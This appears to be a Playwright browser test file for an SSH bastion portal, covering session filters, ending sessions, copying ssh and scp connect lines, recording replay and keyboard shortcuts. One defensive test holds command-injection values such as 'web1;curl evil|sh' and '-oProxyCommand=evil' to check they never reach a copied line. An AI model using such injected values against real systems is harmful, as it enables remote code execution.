import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser } from '../support/browser.ts'
import { openPagesFixture } from './pages-fixture.ts'

/** What a person does on the pages, in a browser. */
const fixture = await openPagesFixture()
const { portalUrl, acme, jonas, boss, sessions, access, record, signIn } = fixture

let browser: Browser
let cookie: string
beforeAll(async () => {
  cookie = await signIn(acme, 'ines')
  browser = await openBrowser()
})
afterAll(() => browser?.close())

async function open(path: string, before?: (page: Page) => Promise<unknown>): Promise<Page> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
  const [name = '', value = ''] = cookie.split('=')
  await context.addCookies([{ name, value, url: portalUrl }])
  const page = await context.newPage()
  await before?.(page)
  await page.goto(`${portalUrl}${path}`)
  return page
}
const rows = (page: Page) => page.locator('tbody tr')
const idsOf = (page: Page) =>
  rows(page).evaluateAll((found) => found.map((one) => one.getAttribute('data-session')))

test('a filter is in the address: the link gives the same list, and Back the one before', async () => {
  const page = await open('/sessions')
  await rows(page).first().waitFor()
  const all = await idsOf(page)
  expect(all[0]).toBe(sessions.live)
  await page.getByRole('searchbox', { name: 'Target' }).fill('web1')
  await page.keyboard.press('Enter')
  await page.waitForURL(/\?target=web1$/)
  await expect.poll(() => idsOf(page)).toEqual([sessions.exec])
  const link = await open(new URL(page.url()).search.replace(/^/, '/sessions'))
  await expect.poll(() => idsOf(link)).toEqual([sessions.exec])
  await page.goBack()
  await expect.poll(() => idsOf(page)).toEqual(all)
  await page.context().close()
  await link.context().close()
})

test('new sessions wait behind a button, and the rows that are read stay where they are', async () => {
  const page = await open('/sessions', (fresh) => fresh.clock.install())
  await rows(page).first().waitFor()
  const before = await idsOf(page)
  const added = await record(jonas, 'web1', { reason: 'ended' })
  await page.clock.fastForward(10_000)
  await page.getByRole('button', { name: '1 new' }).waitFor()
  expect(await idsOf(page)).toEqual(before)
  await page.getByRole('button', { name: '1 new' }).click()
  await expect.poll(() => idsOf(page)).toContain(added)
  await page.context().close()
})

test("ending a colleague's session asks for the name, and the reason reaches the session", async () => {
  const page = await open('/sessions')
  await page.getByRole('button', { name: /^End jonas/ }).click()
  const dialog = page.getByRole('dialog')
  const sure = dialog.getByRole('button', { name: 'End the session' })
  await dialog.getByLabel('Reason').fill('maintenance')
  await sure.click()
  await dialog.getByText('Type the name as it is: jonas.').waitFor()
  expect(
    (await access.sessionFor({ ...boss, session: '' }, 'session.read', sessions.live))?.killReason,
  ).toBeNull()
  await dialog.getByLabel('Type jonas to confirm').fill('jonas')
  await sure.click()
  await dialog.waitFor({ state: 'hidden' })
  const ended = await access.sessionFor({ ...boss, session: '' }, 'session.read', sessions.live)
  expect(ended?.killReason).toBe('ines ended this session: maintenance')
  await page.context().close()
})

test('a press copies the whole line, and one key the line of the remembered client', async () => {
  const page = await open('/')
  await page.getByRole('link', { name: 'Connect to db1' }).click()
  await page.getByRole('button', { name: 'Copy: Shell' }).click()
  const search = page.getByRole('searchbox')
  const paste = async () => {
    await search.fill('')
    await search.focus()
    await page.keyboard.press('Control+v')
    return search.inputValue()
  }
  const user = `${acme.slug}+db1@bastion.test`
  expect(await paste()).toBe(`ssh -p 2222 ${user}`)
  await page.getByText('Copy files').click()
  await page.getByRole('heading', { name: 'Connect to db1' }).focus()
  await page.keyboard.press('c')
  expect(await paste()).toBe(`scp -P 2222 FILE ${user}:`)
  await page.context().close()
})

test('attack: a link cannot put words of its own into a line that is copied', async () => {
  for (const target of ['web1;curl evil|sh', 'web1\n', '-oProxyCommand=evil', 'web1 evil']) {
    const page = await open(`/?target=${encodeURIComponent(target)}`)
    await rows(page).first().waitFor()
    expect(await page.getByRole('heading', { name: /^Connect to/ }).count()).toBe(0)
    expect(await page.locator('main').innerText()).not.toContain('evil')
    await page.context().close()
  }
})

test('Esc closes the lines, and the focus returns to the row', async () => {
  const page = await open('/')
  await page.getByRole('link', { name: 'Connect to db1' }).click()
  await page.getByRole('heading', { name: 'Connect to db1' }).waitFor()
  await page.keyboard.press('Escape')
  await page.waitForURL(`${portalUrl}/`)
  const focused = page.locator('tr[data-target="db1"] a:focus')
  await focused.waitFor()
  await page.context().close()
})

/** Ten minutes of silence, of which the replay shows two seconds. */
const cast = [
  { version: 3, term: { cols: 80, rows: 24 } },
  [1, 'o', 'BEFORE\r\n'],
  [600, 'm', 'lunch is over'],
  [0.5, 'o', 'AFTER\r\n'],
  [5, 'o', 'LAST\r\n'],
]
  .map((line) => `${JSON.stringify(line)}\n`)
  .join('')

test('a link at a time opens the picture of that time, and each reading is asked for once', async () => {
  let readings = 0
  const page = await open(`/sessions/${sessions.shell}?t=603`, (fresh) =>
    fresh.route('**/recording.cast', (route) => {
      readings++
      return route.fulfill({ body: cast })
    }),
  )
  const player = page.locator('.ap-player')
  await player.getByText('AFTER').first().waitFor()
  expect(await player.getByText('LAST').count()).toBe(0)
  await page.getByRole('button', { name: 'Copy link at 10:03' }).waitFor()
  await page.getByText('Pauses over 2 s are shortened: 6 s to watch of 10 min 7 s.').waitFor()
  // The same place with all pauses.
  await page.keyboard.press('i')
  await page.getByText('Pauses have their whole length: 10 min 7 s.').waitFor()
  await page.getByRole('button', { name: 'Copy link at 10:03' }).waitFor()
  await page.getByRole('link', { name: 'lunch is over' }).click()
  await page.getByRole('button', { name: 'Copy link at 10:01' }).waitFor()
  await page.keyboard.press('End')
  await player.getByText('LAST').first().waitFor()
  expect(readings).toBe(1)
  await page.context().close()
})

test('single keys can be switched off, and never act while a field has the focus', async () => {
  const page = await open('/sessions')
  await rows(page).first().waitFor()
  const keys = page.getByRole('dialog')
  const search = page.getByRole('searchbox', { name: 'Person' })
  await page.keyboard.press('/')
  await page.keyboard.type('?gt')
  expect(await search.inputValue()).toBe('?gt')
  await search.blur()
  await page.keyboard.press('?')
  await keys.getByLabel('Single keys act').uncheck()
  await keys.getByRole('button', { name: 'Close' }).click()
  await page.keyboard.press('?')
  expect(await keys.count()).toBe(0)
  await page.context().close()
})
